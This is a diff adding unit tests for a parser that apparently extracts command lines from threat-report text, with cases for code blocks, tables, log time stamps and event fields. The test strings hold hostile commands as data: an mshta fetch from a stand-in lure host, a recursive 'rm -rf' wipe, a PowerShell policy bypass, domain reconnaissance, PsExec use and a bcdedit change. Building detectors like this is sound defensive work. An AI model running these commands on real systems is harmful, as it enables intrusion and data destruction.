@@ -142,4 +142,46 @@ describe('extractCmdlines', () => {
       'C:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"',
     ]);
   });
+
+  it("drops an analyst's trailing note after a Windows command but keeps a lure that is part of it", () => {
+    const text = '```\nwhoami /priv   # check privileges\nnltest /domain_trusts REM list the trusts\n```';
+    expect(values(text)).toEqual(['whoami /priv', 'nltest /domain_trusts']);
+    expect(values('```\nmshta https://lure.test/verify.hta # ✅ Verification ID: 2231\n```')).toEqual(['mshta https://lure.test/verify.hta # ✅ Verification ID: 2231']);
+  });
+
+  it('strips a line-number gutter a page copied with a code block, only when the numbers run in turn', () => {
+    expect(values('```\n1 whoami /all\n2 net group "domain admins" /domain\n3 ipconfig /all\n```')).toEqual(['whoami /all', 'net group "domain admins" /domain', 'ipconfig /all']);
+    expect(values('```\n1 whoami /all\n7 ipconfig /all\n```')).toEqual([]);
+  });
+
+  it("reads a table's command column cell by cell: neither the column bar nor the description joins the command", () => {
+    const text = [
+      '| Command | Purpose |',
+      '|---|---|',
+      '| whoami /groups | Shows groups of the current user |',
+      '| nltest /dclist:corp | Lists domain controllers |',
+      '| `ls -A /root | grep -v -E keep | xargs rm -rf` | Wipes the folder |',
+      '',
+      '| Tool | Notes |',
+      '|---|---|',
+      '| Seen once | ipconfig |',
+    ].join('\n');
+    expect(values(text)).toEqual(['whoami /groups', 'nltest /dclist:corp', 'ls -A /root | grep -v -E keep | xargs rm -rf']);
+  });
+
+  it("ends a command where a table's description column, run on by the page, begins with a verb", () => {
+    const text = 'Purpose list: reg delete "HKLM\\Software\\Acme\\Run" /v "AcmeTray" /f Removes the tray icon run key. bcdedit /set {current} bootstatuspolicy ignoreallfailures modifies the boot configuration of the host.';
+    expect(values(text)).toEqual(['reg delete "HKLM\\Software\\Acme\\Run" /v "AcmeTray" /f', 'bcdedit /set {current} bootstatuspolicy ignoreallfailures']);
+  });
+
+  it("skips a tool's tabular output in a code block", () => {
+    const text = '```\nImage Name        PID Session Name   Mem Usage\nsvchost.exe       908 Services       12,344 K\nacmeagent.exe    4412 Console         8,120 K\n```';
+    expect(values(text)).toEqual([]);
+  });
+
+  it("reads the command after a log line's time stamp and after an event field's label", () => {
+    const text = '```\n2024-03-02 10:14:22 cmd.exe /c whoami /all\n[10:14:25] net group "domain admins" /domain\nCommandLine: powershell.exe -ep bypass -f C:\\temp\\a.ps1\n```';
+    expect(values(text)).toEqual(['cmd.exe /c whoami /all', 'net group "domain admins" /domain', 'powershell.exe -ep bypass -f C:\\temp\\a.ps1']);
+    expect(values('2024-03-02T10:15:00Z - nltest /dclist:corp')).toEqual(['nltest /dclist:corp']);
+  });
 });
